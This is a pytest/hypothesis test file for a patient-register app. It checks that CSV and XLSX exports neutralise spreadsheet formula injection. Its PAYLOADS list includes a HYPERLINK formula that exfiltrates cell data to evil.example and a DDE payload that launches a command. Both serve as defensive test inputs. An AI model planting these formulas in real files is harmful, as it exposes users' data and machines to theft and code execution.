"""No cell of a CSV or XLSX export is one a spreadsheet would run as a
formula (issue 10, item 5).

The rule is ``mdtcare.core.exports.cell_safe``'s: a *text* value whose first
character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a ``'`` in front; anything else is written as it is. So text that looks
like a number ("-1", "+44 113 …") is prefixed too (it is text in the record,
and "-1+2" would be a formula), while a real number (an ``int``, ``float`` or
``Decimal`` such as a risk score) is written as a number: in CSV its digits
(a spreadsheet reads ``-1`` as minus one, not a formula), in XLSX a numeric
cell. Every property is checked on the file as written and read back (the
``csv`` module, openpyxl), never on the writer's input.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from mdtcare.core.exports import cell_safe, csv_lines, xlsx_write
from patients.models import Patient
from tests.factories import PatientFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 cannot hold; xlsx_write drops these before anything else.
XML_ILLEGAL = {chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]} | {
    "\ufffe",
    "\uffff",
}

# Text biased towards what a spreadsheet would run: a dangerous first
# character followed by anything, classic payloads, numbers as text, and
# dangerous text behind a control character that the XLSX writer drops.
dangerous_text = st.from_regex(r"\A[=+\-@\t\r].*", fullmatch=False)
numbers_as_text = st.from_regex(r"\A[+\-]?\d{1,6}([.,]\d{1,3})?\Z", fullmatch=False)
hidden_behind_control = st.builds(
    lambda control, rest: control + rest, st.sampled_from(sorted(XML_ILLEGAL)), dangerous_text
)
texts = st.one_of(st.text(), dangerous_text, numbers_as_text, hidden_behind_control)
numbers = st.one_of(
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.decimals(min_value=-1000, max_value=1000, places=2, allow_nan=False),
)
cells = st.one_of(texts, numbers)
# Each example: one text cell always (so 1,000 examples are at least 1,000
# strings), then a few more cells of any kind.
rows = st.builds(lambda first, more: [first, *more], texts, st.lists(cells, max_size=5))

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 113 496 0000",
    "-1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "\x01=1+2",
    "\x0b-1",
]


def _csv_read(header, data) -> list[list[str]]:
    text = "".join(csv_lines(header, data))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _xlsx_read(header, data):
    target = io.BytesIO()
    xlsx_write(target, [("Export", header, data)])
    target.seek(0)
    return list(load_workbook(target, read_only=True).active.iter_rows())


def _is_number(value) -> bool:
    return not isinstance(value, bool) and isinstance(value, int | float | Decimal)


def _assert_csv_cell(sent, cell: str) -> None:
    if _is_number(sent):
        # Written as its digits: a number to a spreadsheet, never a formula.
        assert float(cell) == pytest.approx(float(sent)), (sent, cell)
        return
    assert not cell.startswith(FORMULA_STARTS), (sent, cell)
    assert cell == cell_safe(sent), (sent, cell)
    if sent.startswith(FORMULA_STARTS):
        assert cell == "'" + sent


def _assert_xlsx_cell(sent, cell) -> None:
    assert cell.data_type != "f", (sent, cell.value)
    if _is_number(sent):
        assert cell.data_type == "n"
        assert float(cell.value) == pytest.approx(float(sent), rel=1e-6)
        return
    cleaned = "".join(c for c in sent if c not in XML_ILLEGAL)
    if cleaned == "":
        assert cell.value in (None, "")
        return
    assert cell.data_type == "s", (sent, cell.value)
    assert not cell.value.startswith(FORMULA_STARTS), (sent, cell.value)
    if cleaned.startswith(FORMULA_STARTS):
        assert cell.value.startswith("'"), (sent, cell.value)
        # XML turns a carriage return into a line feed; the rest is kept.
        assert cell.value[1:].replace("\n", "\r") == cleaned.replace("\n", "\r")


@settings(max_examples=1000, derandomize=True, deadline=None)
@given(row=rows)
@example(row=PAYLOADS)
@example(row=["-1", -1, Decimal("-1.50"), -1.5, "+1", 0, "0"])
def test_no_csv_cell_is_a_formula(row):
    header = [text for text in row if isinstance(text, str)]

    csv_header, csv_row = _csv_read(header, [row])

    assert len(csv_row) == len(row)
    for sent, cell in zip(header, csv_header, strict=True):
        _assert_csv_cell(sent, cell)
    for sent, cell in zip(row, csv_row, strict=True):
        _assert_csv_cell(sent, cell)


# A workbook costs ~12 ms to write and read back, so each example is a sheet
# of 4-8 rows: 250 examples are still more than 1,000 generated strings.
@settings(max_examples=250, derandomize=True, deadline=None)
@given(sheet=st.lists(rows, min_size=4, max_size=8))
@example(sheet=[PAYLOADS, ["-1", -1, Decimal("-1.50"), -1.5, "+1", 0, "0"]])
def test_no_xlsx_cell_is_a_formula(sheet):
    header = [text for text in sheet[0] if isinstance(text, str)]

    xlsx_header, *xlsx_rows = _xlsx_read(header, sheet)

    assert len(xlsx_rows) == len(sheet)
    for sent, cell in zip(header, xlsx_header, strict=False):
        _assert_xlsx_cell(sent, cell)
    for row, xlsx_row in zip(sheet, xlsx_rows, strict=True):
        for sent, cell in zip(row, xlsx_row, strict=False):
            _assert_xlsx_cell(sent, cell)


@pytest.mark.parametrize("text", ["-1", "-0.5", "+1", "-1+2"])
def test_numbers_as_text_are_prefixed_but_numbers_are_not(text):
    """The rule for numbers: text is text, whatever it looks like; a number
    stays a number (a risk score of -1 would still sort and sum)."""
    number = Decimal(text) if text != "-1+2" else None

    assert cell_safe(text) == "'" + text
    if number is not None:
        assert cell_safe(number) == number
        assert cell_safe(int(number)) == int(number)


def test_a_control_character_does_not_break_or_unmask_the_xlsx_export():
    """A vertical tab pasted into a name neither fails the whole export nor
    lets the formula behind it through once it is dropped."""
    (_, row) = _xlsx_read(["Name"], [["Okafor\x0bMary", "\x01=1+2"]])

    assert [cell.value for cell in row] == ["OkaforMary", "'=1+2"]
    assert all(cell.data_type == "s" for cell in row)


# --- through the register export, as a user downloads it ---------------------------------

# Names and postcodes as a person's record may hold them (what a form or the
# API accepts: no NUL, the field's length).
record_text = st.one_of(
    dangerous_text, numbers_as_text, st.text(min_size=1), st.sampled_from(PAYLOADS)
).filter(lambda text: "\x00" not in text)


@pytest.mark.django_db
@settings(
    max_examples=60,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    family_name=record_text.map(lambda text: text[:100]),
    given_name=record_text.map(lambda text: text[:100]),
    postcode=record_text.map(lambda text: text[:8]),
)
@example(family_name="=1+2", given_name="-1", postcode="@A1")
def test_the_register_export_writes_no_formula(
    client, matron, practice_a, family_name, given_name, postcode
):
    patient = Patient.objects.filter(practice=practice_a).first() or PatientFactory(
        practice=practice_a
    )
    Patient.objects.filter(pk=patient.pk).update(
        family_name=family_name, given_name=given_name, postcode=postcode
    )
    client.force_login(matron)

    response = client.get(reverse("patients:export"))
    text = b"".join(response.streaming_content).decode("utf-8")

    assert response.status_code == 200
    header, *lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(lines) == 1
    cells = dict(zip(header, lines[0], strict=True))
    for name, sent in [
        ("Family name", family_name),
        ("Given name", given_name),
        ("Postcode", postcode),
    ]:
        _assert_csv_cell(sent, cells[name])
    for cell in [*header, *lines[0]]:
        assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit(), cell
